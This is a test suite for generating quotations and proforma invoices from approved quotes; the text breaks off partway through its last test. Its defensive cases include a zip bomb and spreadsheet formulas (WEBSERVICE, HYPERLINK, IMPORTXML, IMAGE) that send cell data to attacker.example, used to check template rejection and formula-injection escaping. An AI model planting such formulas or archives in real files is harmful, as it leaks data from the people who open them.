// Quotations and proforma invoices (issue 15 §3): templates checked on upload (each refusal with its
// cell, nothing saved), documents generated only from approved quotes and opened with ExcelJS cell
// by cell in both languages, the customer's documents list, and a PDF printed by real Chromium.
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RuleSetDocument } from '../schemas/rule-set.js';
import { workbookHtml } from '../server/documents/html-rendering.js';
import { createHarness, type Harness } from './support/harness.js';
import { customerInCosting } from './support/customers.js';
import { buildZip } from './support/xlsx-zip.js';

/** A quote's last valid day: two months from the day the test runs (a past day is refused). */
const VALID_UNTIL = new Date(Date.now() + 60 * 86_400_000).toISOString().slice(0, 10);

let h: Harness;
let rep: { id: string; token: string };
let manager: { id: string; token: string };
let otherRep: { id: string; token: string };

const approvalRules = {
  decision: 'approval',
  hitPolicy: 'collect',
  rules: [
    { name: 'discount over 10%', conditions: { all: [{ fact: 'quote', path: '$.discountPct', operator: 'greaterThan', value: 10 }] }, event: { type: 'require_approval', params: { level: 1, role: 'manager', timeout: '2h', reason: 'discount' } } },
    { name: 'big quote', conditions: { all: [{ fact: 'quote', path: '$.amountUsd', operator: 'greaterThanInclusive', value: 50_000 }] }, event: { type: 'require_approval', params: { level: 2, role: 'admin', timeout: '2h', reason: 'big' } } },
  ],
} as unknown as RuleSetDocument;

const PROFILE = {
  name: 'Ningbo Sunrise Solar Co., Ltd.',
  address: 'No. 8 Harbour Road, Ningbo, China',
  phone: '+86 574 8888 0000',
  email: 'sales@sunrise.example',
  bankName: 'Bank of China, Ningbo Branch',
  bankAccount: '3581 0000 1234 5678',
  bankSwift: 'BKCHCNBJ92A',
  beneficiary: 'Ningbo Sunrise Solar Co., Ltd.',
  signatory: 'Li Wei',
  signatoryTitle: 'Sales Director',
  defaultIncoterms: 'FOB Ningbo',
  defaultPaymentTerms: '30% T/T in advance, 70% against B/L copy',
};

const ITEMS = [
  { sku: 'INV-5K', description: 'Solar inverter 5 kW', quantity: 10, unitPrice: 4_000 },
  { sku: 'PNL-450', description: 'Mono panel 450 W', quantity: 200, unitPrice: 105.5 },
];
const TOTAL = 10 * 4_000 + 200 * 105.5;

async function ok(token: string, method: string, url: string, body?: unknown) {
  const res = await h.call(token, method, url, body);
  if (res.status >= 300) throw new Error(`${method} ${url}: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body;
}

/** A customer of `rep` with a quote: approved at both levels (with comments), or still pending. */
async function customerWithQuote(approve: boolean) {
  const id = await customerInCosting(h, rep);
  const quote = await ok(rep.token, 'POST', `/customers/${id}/quotes`, { currency: 'USD', discountPct: 12, marginPct: 22, items: ITEMS, validUntil: VALID_UNTIL, note: 'Prices include export packing.' });
  const quoteId = quote.quote.id as string;
  if (approve) {
    await ok(manager.token, 'POST', `/approvals/${quoteId}/approve`, { comment: 'margin fine' });
    await ok(h.adminToken, 'POST', `/approvals/${quoteId}/approve`, { comment: 'ok for Germany' });
  }
  return { customerId: id, quoteId };
}

async function upload(file: Buffer, fields: Record<string, string>, token = h.adminToken) {
  const form = new FormData();
  form.set('file', new Blob([new Uint8Array(file)]), 'template.xlsx');
  for (const [k, v] of Object.entries(fields)) form.set(k, v);
  const res = await h.app.request('/document-templates', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
  return { status: res.status, body: (await res.json()) as any };
}

async function download(token: string, url: string) {
  const res = await h.app.request(url, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), bytes: Buffer.from(await res.arrayBuffer()) };
}

async function open(bytes: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  return book.worksheets[0]!;
}

/** One file of an XLSX (a zip), as text. */
function zipText(bytes: Buffer, name: string): Promise<string> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
      if (error) return reject(error);
      zip.on('entry', (entry: yauzl.Entry) => {
        if (entry.fileName !== name) return zip.readEntry();
        zip.openReadStream(entry, async (e, stream) => {
          if (e) return reject(e);
          const chunks: Buffer[] = [];
          for await (const chunk of stream) chunks.push(chunk as Buffer);
          resolve(Buffer.concat(chunks).toString('utf8'));
          zip.close();
        });
      });
      zip.on('end', () => reject(new Error(`${name} is not in the file`)));
      zip.readEntry();
    });
  });
}

/** A template drawn with ExcelJS: the given cells on one sheet (a formula when the value starts with "="). */
async function template(cells: Record<string, string>, extraSheet = false) {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Quote');
  for (const [ref, v] of Object.entries(cells)) sheet.getCell(ref).value = v.startsWith('=') ? { formula: v.slice(1) } : v;
  if (extraSheet) book.addWorksheet('Prices').getCell('A1').value = 5;
  return Buffer.from(await book.xlsx.writeBuffer());
}

const VALID = {
  A1: '客户：${customer.name}',
  A2: '${quote.number}',
  B2: '${quote.version}',
  A4: '${table:items.product}',
  B4: '${table:items.quantity}',
  C4: '${table:items.unitPrice}',
  D4: '${table:items.amount}',
  D5: '${totals.total}',
  A7: '${approvalSummary}',
};

const templateCount = async () => Number((await h.db.selectFrom('document_templates').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow()).n);
const documentCount = async () => Number((await h.db.selectFrom('documents').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow()).n);

beforeAll(async () => {
  h = await createHarness();
  await h.publishRuleSet(approvalRules);
  for (const team of ['docs-a', 'docs-b']) await ok(h.adminToken, 'POST', '/teams', { id: team, name: team });
  manager = await h.createRep({ id: 'docs-manager', role: 'manager', teamId: 'docs-a' });
  rep = await h.createRep({ id: 'docs-rep', teamId: 'docs-a' });
  otherRep = await h.createRep({ id: 'docs-other', teamId: 'docs-b' });
  await h.db.updateTable('teams').set({ manager_id: manager.id }).where('id', '=', 'docs-a').execute();
  await h.db.updateTable('reps').set({ name: 'Wang Fang' }).where('id', '=', manager.id).execute();
  // Documents need the company's name and, on a PI, its bank details (COMPANY_PROFILE_INCOMPLETE otherwise).
  await ok(h.adminToken, 'PUT', '/company-profile', PROFILE);
}, 300_000);
afterAll(() => h?.close());

describe('the company profile', () => {
  it('is edited by admins only and read by everyone', async () => {
    expect((await h.call(rep.token, 'PUT', '/company-profile', PROFILE)).status).toBe(403);
    const saved = await ok(h.adminToken, 'PUT', '/company-profile', PROFILE);
    expect(saved).toMatchObject({ profile: PROFILE, updatedBy: 'admin' });
    expect((await ok(rep.token, 'GET', '/company-profile')).profile).toEqual(PROFILE);
    expect((await h.call(h.adminToken, 'PUT', '/company-profile', { ...PROFILE, iban: 'x' })).status).toBe(400);
  });
});

describe('a document the company profile cannot carry', () => {
  it('is refused before anything is generated, naming what is missing, and generated once an admin fills it in', async () => {
    const { quoteId } = await customerWithQuote(true);
    const { bankName: _bank, bankAccount: _account, beneficiary: _beneficiary, ...withoutBank } = PROFILE;
    try {
      await ok(h.adminToken, 'PUT', '/company-profile', withoutBank);
      const before = await documentCount();
      const pi = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en' });
      expect(pi.status, JSON.stringify(pi.body)).toBe(409);
      expect(pi.body.error.code).toBe('COMPANY_PROFILE_INCOMPLETE');
      expect(pi.body.error.details).toEqual({
        missing: [
          { pointer: '/bankName', field: 'bankName' },
          { pointer: '/bankAccount', field: 'bankAccount' },
          { pointer: '/beneficiary', field: 'beneficiary' },
        ],
        kind: 'proforma_invoice',
      });
      expect(pi.body.error.message).toBe('The company profile has no bank name, bank account and beneficiary; an admin fills them in Settings → Documents before a PI can be generated.');
      await ok(h.adminToken, 'PUT', '/company-profile', {});
      const quotation = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
      expect([quotation.status, quotation.body.error.code, quotation.body.error.details]).toEqual([409, 'COMPANY_PROFILE_INCOMPLETE', { missing: [{ pointer: '/name', field: 'name' }], kind: 'quotation' }]);
      expect(await documentCount()).toBe(before);

      await ok(h.adminToken, 'PUT', '/company-profile', PROFILE);
      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en' });
      expect(doc).toMatchObject({ quoteId, kind: 'proforma_invoice' });
      expect((await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes)).getCell('C25').value).toBe(PROFILE.bankAccount);
      expect(await documentCount()).toBe(before + 1);
    } finally {
      await ok(h.adminToken, 'PUT', '/company-profile', PROFILE);
    }
  });
});

describe('a quotation from an approved quote', () => {
  it('is generated with the built-in template and checked cell by cell, in English and Chinese', async () => {
    const { customerId, quoteId } = await customerWithQuote(true);
    const customer = await h.customerRow(customerId);
    for (const language of ['en', 'zh'] as const) {
      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language });
      expect(doc).toMatchObject({ customerId, quoteId, kind: 'quotation', language, templateId: `builtin-quotation-${language}`, quoteVersion: 1, generatedBy: rep.id });
      expect(doc.approvals.map((a: { level: number; approver: string; comment: string }) => [a.level, a.approver, a.comment])).toEqual([
        [1, 'Wang Fang', 'margin fine'],
        [2, 'Admin', 'ok for Germany'],
      ]);
      const file = await download(rep.token, `/documents/${doc.id}/file`);
      expect(file.status).toBe(200);
      expect(file.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(file.disposition).toContain(`${doc.quoteNumber}-v1-quotation-${language}.xlsx`);
      const s = await open(file.bytes);
      const today = new Date().toISOString().slice(0, 10);
      expect(s.getCell('A1').value).toBe(PROFILE.name);
      expect(s.getCell('A5').value).toBe(language === 'en' ? 'QUOTATION' : '报价单');
      expect(s.getCell('B7').value).toBe(customer.company_name);
      expect(s.getCell('F7').value).toBe(doc.quoteNumber);
      expect(s.getCell('F8').value).toBe(1);
      expect(s.getCell('F9').value).toBe(today);
      expect(s.getCell('F10').value).toBe(VALID_UNTIL);
      expect(s.getCell('A12').value).toBe(language === 'en' ? 'No.' : '序号');
      // One row per item: number, SKU, product, quantity, unit, unit price, amount.
      expect([1, 2, 3, 4, 5, 6, 7].map((c) => s.getRow(13).getCell(c).value)).toEqual([1, 'INV-5K', 'Solar inverter 5 kW', 10, language === 'en' ? 'pcs' : '件', 4000, 40000]);
      expect([1, 2, 3, 4, 5, 6, 7].map((c) => s.getRow(14).getCell(c).value)).toEqual([2, 'PNL-450', 'Mono panel 450 W', 200, language === 'en' ? 'pcs' : '件', 105.5, 21100]);
      expect(s.getCell('F15').value).toBe(language === 'en' ? 'Total (USD)' : '合计（USD）');
      expect(s.getCell('G15').value).toBe(TOTAL);
      expect(s.getCell('G15').numFmt).toBe('#,##0.00');
      // The discount it was approved with, below the total (the unit prices already carry it).
      expect([s.getCell('F16').value, s.getCell('G16').value]).toEqual([language === 'en' ? 'Discount off list price' : '相对标价折扣', '12%']);
      expect(s.getCell('C17').value).toBe('FOB Ningbo');
      expect(s.getCell('C18').value).toBe(PROFILE.defaultPaymentTerms);
      expect(s.getCell('C19').value).toBe('Prices include export packing.');
      expect(s.getCell('A22').value).toBe('Li Wei  Sales Director');
      expect(String(s.getCell('C24').value)).toMatch(language === 'en' ? /^L1 Wang Fang \d{4}-\d\d-\d\d; L2 Admin / : /^第1级 Wang Fang \d{4}-\d\d-\d\d; 第2级 Admin /);
      expect([1, 2, 4, 6].map((c) => s.getRow(26).getCell(c).value)).toEqual([1, 'Wang Fang', today, 'margin fine']);
      expect([1, 2, 4, 6].map((c) => s.getRow(27).getCell(c).value)).toEqual([2, 'Admin', today, 'ok for Germany']);
    }
  });

  it('is a proforma invoice with the bank details, and records the terms given', async () => {
    const { quoteId } = await customerWithQuote(true);
    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en', incoterms: 'CIF Hamburg' });
    const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
    expect(s.getCell('A5').value).toBe('PROFORMA INVOICE');
    expect(s.getCell('C17').value).toBe('CIF Hamburg');
    expect(s.getCell('A21').value).toBe('Bank details');
    expect(s.getCell('C23').value).toBe(PROFILE.bankName);
    expect(s.getCell('C25').value).toBe(PROFILE.bankAccount);
    expect(s.getCell('C26').value).toBe(PROFILE.bankSwift);
    const stored = await h.db.selectFrom('documents').select(['data', 'template_sha256', 'sha256']).where('id', '=', doc.id).executeTakeFirstOrThrow();
    expect(stored.data).toMatchObject({ incoterms: 'CIF Hamburg', quote: { version: 1 }, totals: { total: TOTAL } });
    expect(stored.sha256).toBe(doc.sha256);
  });

  it('is refused while the quote awaits approval, and for another team’s rep', async () => {
    const { customerId, quoteId } = await customerWithQuote(false);
    const before = await documentCount();
    const pending = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
    expect(pending.status).toBe(409);
    expect(pending.body.error).toMatchObject({ code: 'QUOTE_PENDING', details: { quoteId, status: 'pending_approval' } });
    expect(pending.body.error.message).toContain('awaiting approval');
    await ok(manager.token, 'POST', `/approvals/${quoteId}/reject`, { comment: 'margin too thin' });
    const rejected = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
    expect(rejected.status).toBe(409);
    expect(rejected.body.error.details.status).toBe('rejected');
    const outsider = await h.call(otherRep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
    expect(outsider.status).toBe(403);
    expect((await h.call(otherRep.token, 'GET', `/customers/${customerId}/documents`)).status).toBe(403);
    expect(await documentCount()).toBe(before);
  });

  it("needs the admin scope when an admin's token generates one on a rep's customer, as every admin-powered write does", async () => {
    const { quoteId } = await customerWithQuote(true);
    const before = await documentCount();
    const writeOnly = (await ok(h.adminToken, 'POST', '/reps/admin/tokens', { name: 'no-admin-scope', scopes: ['read', 'write'] })).token as string;
    const refused = await h.call(writeOnly, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe('INSUFFICIENT_SCOPE');
    expect(await documentCount()).toBe(before);
    // Reading the documents needs no more than "read"; with the admin scope it is generated.
    expect((await h.call(writeOnly, 'GET', `/customers/${(await h.db.selectFrom('quotes').select('customer_id').where('id', '=', quoteId).executeTakeFirstOrThrow()).customer_id}/documents`)).status).toBe(200);
    expect((await h.call(h.adminToken, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' })).status).toBe(201);
  });

  it('is refused when the template asked for is of another language than the one asked for, as of another kind', async () => {
    const { quoteId } = await customerWithQuote(true);
    const before = await documentCount();
    const language = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'builtin-quotation-zh', language: 'en' });
    expect(language.status, JSON.stringify(language.body)).toBe(409);
    expect(language.body.error).toMatchObject({ code: 'CONFLICT', details: { templateId: 'builtin-quotation-zh', language: 'zh' } });
    const kind = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', templateId: 'builtin-quotation-zh' });
    expect(kind.status).toBe(409);
    // A template that does not exist is the request's fault, at its field, as an unknown pool or rep is.
    const unknown = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'nope' });
    expect([unknown.status, unknown.body.error.code, unknown.body.error.details.issues]).toEqual([400, 'VALIDATION_FAILED', [expect.objectContaining({ pointer: '/templateId', code: 'unknown' })]]);
    expect(await documentCount()).toBe(before);
    // The same language, or none (the template's), is generated.
    expect((await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'builtin-quotation-zh', language: 'zh' })).language).toBe('zh');
    expect((await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'builtin-quotation-zh' })).language).toBe('zh');
  });

  it("are listed on the customer, newest first, with who generated them and when; another rep can't download them", async () => {
    const { customerId, quoteId } = await customerWithQuote(true);
    const first = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'en' });
    const second = await ok(manager.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'zh' });
    const list = await ok(rep.token, 'GET', `/customers/${customerId}/documents`);
    expect(list.items.map((d: { id: string; generatedBy: string; generatedByName: string; kind: string }) => [d.id, d.generatedBy, d.generatedByName, d.kind])).toEqual([
      [second.id, manager.id, 'Wang Fang', 'proforma_invoice'],
      [first.id, rep.id, `Rep ${rep.id}`, 'quotation'],
    ]);
    expect(Date.parse(list.items[0].generatedAt)).toBeGreaterThanOrEqual(Date.parse(list.items[1].generatedAt));
    expect((await download(otherRep.token, `/documents/${first.id}/file`)).status).toBe(403);
  });

  it('prints as a PDF with Chromium, and says so when there is none', async () => {
    const { quoteId } = await customerWithQuote(true);
    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
    const pdf = await download(rep.token, `/documents/${doc.id}/file?format=pdf`);
    expect(pdf.status).toBe(200);
    expect(pdf.type).toBe('application/pdf');
    expect(pdf.bytes.subarray(0, 4).toString()).toBe('%PDF');
    // Asked for by many at once: one print, shared, and each gets the file.
    const many = await Promise.all(Array.from({ length: 12 }, () => download(rep.token, `/documents/${doc.id}/file?format=pdf`)));
    expect(many.map((d) => [d.status, d.bytes.subarray(0, 4).toString()])).toEqual(Array.from({ length: 12 }, () => [200, '%PDF']));
    const without = h.newApp({ chromiumPath: '/nonexistent/chromium' });
    const res = await without.request(`/documents/${doc.id}/file?format=pdf`, { headers: { authorization: `Bearer ${rep.token}` } });
    expect(res.status).toBe(503);
    expect(((await res.json()) as any).error.message).toContain('PDF_CHROMIUM_PATH');
  }, 60_000);
});

describe('uploaded templates', () => {
  it('are used for their kind and language until deactivated', async () => {
    const saved = await upload(await template(VALID), { kind: 'quotation', language: 'zh', name: '我们的报价单' });
    expect(saved.status).toBe(201);
    expect(saved.body).toMatchObject({ kind: 'quotation', language: 'zh', name: '我们的报价单', active: true, builtIn: false, sheets: ['Quote'] });
    expect(saved.body.placeholders).toContain('table:items.product');
    const listed = await ok(rep.token, 'GET', '/document-templates?kind=quotation&language=zh');
    expect(listed.items.map((t: { id: string }) => t.id)).toEqual([saved.body.id, 'builtin-quotation-zh']);
    const { customerId, quoteId } = await customerWithQuote(true);
    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
    expect(doc.templateId).toBe(saved.body.id);
    const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
    expect(s.getCell('A1').value).toBe(`客户：${(await h.customerRow(customerId)).company_name}`);
    expect(s.getCell('B2').value).toBe(1);
    expect([s.getCell('A4').value, s.getCell('B4').value, s.getCell('C4').value, s.getCell('D4').value]).toEqual(['Solar inverter 5 kW', 10, 4000, 40000]);
    expect([s.getCell('A5').value, s.getCell('B5').value, s.getCell('C5').value, s.getCell('D5').value]).toEqual(['Mono panel 450 W', 200, 105.5, 21100]);
    expect(s.getCell('D6').value).toBe(TOTAL);
    expect(String(s.getCell('A8').value)).toMatch(/^第1级 Wang Fang/);
    expect((await download(rep.token, `/document-templates/${saved.body.id}/file`)).bytes.subarray(0, 2).toString()).toBe('PK');

    expect((await h.call(rep.token, 'DELETE', `/document-templates/${saved.body.id}`)).status).toBe(403);
    expect((await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`)).active).toBe(false);
    expect((await h.call(h.adminToken, 'DELETE', '/document-templates/builtin-quotation-zh')).status).toBe(409);
    const after = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
    expect(after.templateId).toBe('builtin-quotation-zh');
    const refused = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id });
    expect(refused.status).toBe(409);
    // The document made from it still downloads.
    expect((await download(rep.token, `/documents/${doc.id}/file`)).status).toBe(200);
  });

  it("refuse a name PostgreSQL cannot store, in the reader's language with the issue's code, saving nothing", async () => {
    const before = await templateCount();
    const form = new FormData();
    form.set('file', new Blob([new Uint8Array(await template(VALID))]), 'template.xlsx');
    for (const [k, v] of Object.entries({ kind: 'quotation', language: 'en', name: 'Nul\u0000 quote' })) form.set(k, v);
    const res = await h.app.request('/document-templates', { method: 'POST', headers: { authorization: `Bearer ${h.adminToken}`, 'accept-language': 'zh-CN' }, body: form });
    expect(res.status).toBe(400);
    const { error } = (await res.json()) as { error: { code: string; message: string; details: { issues: unknown[] } } };
    expect(error.code).toBe('VALIDATION_FAILED');
    expect(error.message).toBe('表单无效：/name 含有 NUL 字符（U+0000），无法保存');
    expect(error.details.issues).toEqual([{ pointer: '/name', code: 'text_nul', message: '含有 NUL 字符（U+0000），无法保存' }]);
    expect(await templateCount()).toBe(before);
  });

  it('refuse a form field the upload does not have, at its name, saving nothing', async () => {
    const before = await templateCount();
    const res = await upload(await template(VALID), { kind: 'quotation', language: 'en', name: 'Extra field', bogusField: 'yes' });
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'VALIDATION_FAILED', details: { issues: [{ pointer: '/bogusField' }] } });
    expect(await templateCount()).toBe(before);
  });

  it('are uploaded by admins only', async () => {
    const before = await templateCount();
    expect((await upload(await template(VALID), { kind: 'quotation', language: 'en', name: 'x' }, rep.token)).status).toBe(403);
    expect(await templateCount()).toBe(before);
  });

  const refusals: [string, () => Promise<Buffer>, Record<string, string>, number, RegExp][] = [
    ['not a zip at all', async () => Buffer.from('Company,Contact\nAcme,Ann\n'), {}, 400, /not an \.xlsx workbook/],
    ['a zip that is not a workbook', () => buildZip([{ name: 'readme.txt', chunks: () => [Buffer.from('hello')] }]), {}, 400, /no xl\/workbook\.xml/],
    ['larger than 2 MiB', async () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(2 * 1024 * 1024)]), {}, 413, /larger than 2 MiB/],
    [
      'a zip whose directory lies about what it unpacks to',
      () => {
        // A sheet of 64 MiB that declares 1 KiB: inflating it unbounded is what a zip bomb wants.
        const zeros = Buffer.alloc(1024 * 1024);
        return buildZip([
          { name: '[Content_Types].xml', chunks: () => [Buffer.from('<Types/>')] },
          { name: 'xl/workbook.xml', chunks: () => [Buffer.from('<workbook/>')] },
          { name: 'xl/worksheets/sheet1.xml', chunks: () => Array.from({ length: 64 }, () => zeros), declaredSize: 1024 },
        ]);
      },
      {},
      400,
      /unpacks to more than the workbook declares/,
    ],
    ['unknown placeholders', () => template({ ...VALID, B9: '${customer.nmae}', C9: '${table:items.colour}', D9: '${image:logo}' }), { B9: 'unknown placeholder ${customer.nmae}', C9: 'unknown placeholder ${table:items.colour}', D9: 'unknown placeholder ${image:logo}' }, 400, /unknown placeholder/],
    [
      'malformed placeholders (xlsx-template would print them as they are)',
      () => template({ ...VALID, B9: '${customer.name', C9: '客户：${customer.contact 和 ${quote.number}', D9: '${}', E9: 'Mail: {customer.email}', F9: '${table:items.sku:x:y}', G9: '{{customer.phone}}' }),
      {
        B9: 'unterminated placeholder "${customer.name"',
        C9: 'unterminated placeholder "${customer.contact 和 "',
        D9: 'malformed placeholder "${}"',
        E9: '"{customer.email}" lacks its "$"',
        F9: 'malformed placeholder "${table:items.sku:x:y}"',
        G9: '"{{customer.phone}}" lacks its "$"',
      },
      400,
      /placeholder/,
    ],
    [
      'formulas that reach outside the sheet',
      () =>
        template(
          {
            ...VALID,
            E1: '=Prices!A1*2',
            E2: '=[1]Rates!B2',
            E3: '=WEBSERVICE("http://attacker.example/?"&A1)',
            E4: '=HYPERLINK("http://x.example","x")',
            E5: '=INDIRECT("Prices!A1")',
            E6: '=SUM(D4:D4)',
            // As Excel writes newer functions in a file, and functions that fetch or call out under other names.
            E7: '=_xlfn.WEBSERVICE("http://attacker.example/?"&A2)',
            E8: '=_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x.example"),"//a")',
            E10: '=_xlfn.IMAGE("http://attacker.example/p.png")',
            E11: '=CUBEVALUE("x","y")',
            E12: '=_xludf.FETCH(A1)',
            E13: '=_xlfn._xlws.SORT(D4:D4)',
            // Its own sheet by name stays on its sheet; a quoted other sheet does not.
            E14: '=Quote!D4*2',
            E15: "='quote'!D4+1",
            E16: "='Prices ''25'!A1",
          },
          true,
        ),
      { E1: 'another sheet', E2: 'another workbook', E3: 'uses WEBSERVICE', E4: 'uses HYPERLINK', E5: 'INDIRECT', E7: 'uses WEBSERVICE', E8: 'uses FILTERXML', E10: 'uses IMAGE', E11: 'uses CUBEVALUE', E12: 'user-defined function FETCH', E16: 'another sheet' },
      400,
      /problems/,
    ],
    [
      'formulas outside the cells that reach outside the document',
      async () => {
        const book = new ExcelJS.Workbook();
        const sheet = book.addWorksheet('Quote');
        for (const [ref, v] of Object.entries(VALID)) sheet.getCell(ref).value = v;
        book.definedNames.model = [{ name: 'feed', ranges: ['_xlfn.WEBSERVICE("http://attacker.example/?"&Quote!$A$1)'] }];
        sheet.addConditionalFormatting({ ref: 'A1', rules: [{ type: 'expression', priority: 1, formulae: ['LEN(_xlfn.WEBSERVICE("http://cf.example"))>0'], style: {} }] });
        sheet.getCell('B1').dataValidation = { type: 'custom', formulae: ['_xlfn.IMAGE("http://dv.example")'] };
        return Buffer.from(await book.xlsx.writeBuffer());
      },
      { '': 'the defined name "feed" uses WEBSERVICE', ' ': 'the sheet "Quote" has a conditional format or data validation that uses WEBSERVICE', '  ': 'the sheet "Quote" has a conditional format or data validation that uses IMAGE' },
      400,
      /3 problems, the first: .*uses WEBSERVICE, which reaches outside the document/,
    ],
    ['a missing required placeholder', () => template({ ...VALID, D5: 'no total here' }), { '': 'missing the required placeholder ${totals.total}' }, 400, /missing the required placeholder/],
  ];
  for (const [name, make, cells, status, message] of refusals) {
    it(`are refused, with nothing saved: ${name}`, async () => {
      const before = await templateCount();
      const res = await upload(await make(), { kind: 'quotation', language: 'en', name });
      expect(res.status, JSON.stringify(res.body)).toBe(status);
      expect(res.body.error.message).toMatch(message);
      if (status === 400) expect(res.body.error.details.issues.every((i: { pointer: string }) => i.pointer === '/file')).toBe(true);
      for (const [cell, reason] of Object.entries(cells)) {
        expect(res.body.error.details.problems, `${cell}: ${reason}`).toContainEqual(expect.objectContaining({ ...(cell.trim() ? { sheet: 'Quote', cell } : {}), reason: expect.stringContaining(reason) }));
      }
      if (name.startsWith('formulas')) expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toContain('E6');
      if (name.startsWith('formulas')) expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toContain('E13');
      if (name === 'formulas that reach outside the sheet') expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toEqual(expect.arrayContaining(['E14']));
      if (name === 'formulas that reach outside the sheet') expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toEqual(expect.arrayContaining(['E15']));
      expect(await templateCount()).toBe(before);
    });
  }

  it('a proforma invoice template must print the bank account', async () => {
    const res = await upload(await template(VALID), { kind: 'proforma_invoice', language: 'en', name: 'PI' });
    expect(res.status).toBe(400);
    expect(res.body.error.details.problems).toContainEqual({ reason: 'missing the required placeholder ${company.bankAccount}' });
  });
});

describe('text a rep typed', () => {
  // xlsx-template makes a value that starts with "=" a formula: what a rep types must print as typed,
  // never compute or call out; the template's own formulas keep working.
  const TYPED = {
    contactName: '=1+1',
    sku: '=1+1',
    description: '=WEBSERVICE("http://attacker.example/?"&A1)',
    note: '=SUM(G13:G14)*0',
    incoterms: '=A1',
    paymentTerms: '=IMPORTXML("http://attacker.example/","//a")',
    comment: '=2*3',
  };

  let customers = 0;
  /** An approved quote of a customer whose every field, item and approval comment starts with "=". */
  async function typedQuote() {
    const companyName = `=HYPERLINK("http://attacker.example/?n=${++customers}&c="&B8,"Click")`;
    const customerId = await h.createCustomer({ assign: false, companyName, contactName: TYPED.contactName });
    expect((await h.call(rep.token, 'POST', `/customers/${customerId}/claim`)).status).toBe(200);
    await ok(rep.token, 'POST', `/customers/${customerId}/inquiry`, {});
    await ok(rep.token, 'POST', `/customers/${customerId}/costing`, {});
    const items = [{ ...ITEMS[0]!, sku: TYPED.sku, description: TYPED.description }, ITEMS[1]!];
    const quote = await ok(rep.token, 'POST', `/customers/${customerId}/quotes`, { currency: 'USD', discountPct: 12, marginPct: 22, items, validUntil: VALID_UNTIL, note: TYPED.note });
    const quoteId = quote.quote.id as string;
    await ok(manager.token, 'POST', `/approvals/${quoteId}/approve`, { comment: TYPED.comment });
    await ok(h.adminToken, 'POST', `/approvals/${quoteId}/approve`, { comment: 'ok' });
    return { quoteId, companyName };
  }

  /** The cells holding a formula, by address, with the formula. */
  function formulas(s: ExcelJS.Worksheet) {
    const found: Record<string, string> = {};
    s.eachRow((row) => row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) found[cell.address] = String(cell.formula);
    }));
    return found;
  }

  it('is printed as text in every field of the built-in template, in the XLSX and in the PDF', async () => {
    const { quoteId, companyName } = await typedQuote();
    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en', incoterms: TYPED.incoterms, paymentTerms: TYPED.paymentTerms });
    const bytes = (await download(rep.token, `/documents/${doc.id}/file`)).bytes;
    const s = await open(bytes);
    expect(formulas(s)).toEqual({});
    const printed = { B7: companyName, B8: TYPED.contactName, B13: TYPED.sku, C13: TYPED.description, C17: TYPED.incoterms, C18: TYPED.paymentTerms, C19: TYPED.note, F33: TYPED.comment };
    for (const [ref, text] of Object.entries(printed)) expect([ref, s.getCell(ref).value]).toEqual([ref, text]);
    // The PDF is printed from the same workbook: the text is there, as typed.
    const html = await workbookHtml(bytes, 'x');
